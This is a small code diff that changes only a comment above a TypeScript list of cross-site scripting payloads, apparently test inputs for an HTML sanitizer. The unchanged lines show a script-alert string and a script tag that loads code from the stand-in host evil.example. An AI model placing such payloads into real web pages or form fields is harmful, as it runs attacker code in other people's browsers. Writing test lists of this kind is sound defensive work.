@@ -1,4 +1,4 @@
-/** HTML that has run script somewhere: by tag, attribute, address, parser quirk or encoding. */
+/** HTML that has run scripts somewhere: by tag, attribute, address, parser quirk or encoding. */
 export const PAYLOADS: readonly string[] = [
 	'<script>alert(1)</script>',
 	'<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
